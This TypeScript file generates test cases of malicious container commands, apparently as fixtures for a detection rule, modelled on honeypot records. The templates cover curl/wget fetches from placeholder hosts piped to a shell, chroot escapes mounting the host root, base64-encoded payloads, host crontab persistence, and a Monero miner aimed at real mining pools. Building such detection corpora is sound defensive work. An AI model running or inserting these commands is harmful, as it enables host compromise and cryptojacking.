import { walletOf } from '@/lib/rules/testing/wallets';
import { type CorpusEntry, container } from '../entry';
import { pick, randomFrom } from '../random';
import { base64 } from './payload';

const SEED = 20_251;
const PER_SHAPE = 15;

const IMAGES = ['alpine', 'alpine:3.18', 'ubuntu', 'ubuntu:20.04', 'debian', 'busybox', 'centos:7'] as const;
const WHERE = ['/mnt', '/host', '/hostroot', '/hs', '/tmp/r', '/a'] as const;
const FETCH = ['curl -fsSL', 'curl -s', 'wget -qO-', 'wget -q -O -', 'curl -k -s'] as const;
const FROM = [
  'http://198.51.100.21',
  'http://203.0.113.77:8080',
  'https://drop.example.org',
  'http://192.0.2.9',
] as const;
const FILES = ['a.sh', 'init', 'x/y.txt', 'cronb.sh', 'logo.jpg', 'd'] as const;
const SHELLS = ['sh', 'bash', '/bin/bash', 'sh -s', 'bash -'] as const;
const OPTIONS = ['-d', '--rm', '-d --restart=always', '-d --network=host', '-d --privileged', '--name job1'] as const;
const PROGRAMS = ['/usr/bin/php-fpm', './java', '/bin/kd', '/opt/app/server', 'rsyslogd'] as const;
const POOLS = [
  'pool.supportxmr.com:443',
  'gulf.moneroocean.stream:10128',
  'xmr.2miners.com:2222',
  '203.0.113.90:443',
] as const;

/** Mechanical variants of the shapes that honeypots see most. The same ones every time. */
export function variants(seed = SEED): readonly CorpusEntry[] {
  const random = randomFrom(seed);
  const one = <T>(choices: readonly [T, ...T[]]): T => pick(random, choices);
  const script = (): string => `${one(FETCH)} ${one(FROM)}/${one(FILES)} | ${one(SHELLS)}`;
  const shapes: Readonly<Record<string, (number: number) => string>> = {
    'chroot and fetch': () => {
      const where = one(WHERE);
      return `${one(OPTIONS)} -v /:${where} ${one(IMAGES)} chroot ${where} sh -c "${script()}"`;
    },
    'fetch alone': () => `${one(OPTIONS)} ${one(IMAGES)} sh -c "${script()}"`,
    'base64 alone': () =>
      `${one(OPTIONS)} ${one(IMAGES)} sh -c "echo ${base64(script())} | base64 -d | ${one(SHELLS)}"`,
    'cron of the host': () => {
      const where = one(WHERE);
      return `${one(OPTIONS)} -v /etc:${where} ${one(IMAGES)} sh -c "echo '* * * * * root ${script().replaceAll('"', '')}' >> ${where}/crontab"`;
    },
    'renamed miner': (number) =>
      `${one(OPTIONS)} ${one(IMAGES)} ${one(PROGRAMS)} -o ${one(POOLS)} -u ${walletOf(100 + number)} -p x`,
    'fetch, mark executable, run': () =>
      `${one(OPTIONS)} ${one(IMAGES)} sh -c "cd /tmp; wget ${one(FROM)}/m${one(['64', '_arm', ''])}bin -O w; chmod ${one(['+x', '777', '755'])} w; ./w"`,
  };
  return Object.entries(shapes).flatMap(([shape, line]) =>
    Array.from({ length: PER_SHAPE }, (_, number) =>
      container(`${shape}, variant ${number + 1}`, 'generated from shapes in honeypot records', line(number)),
    ),
  );
}
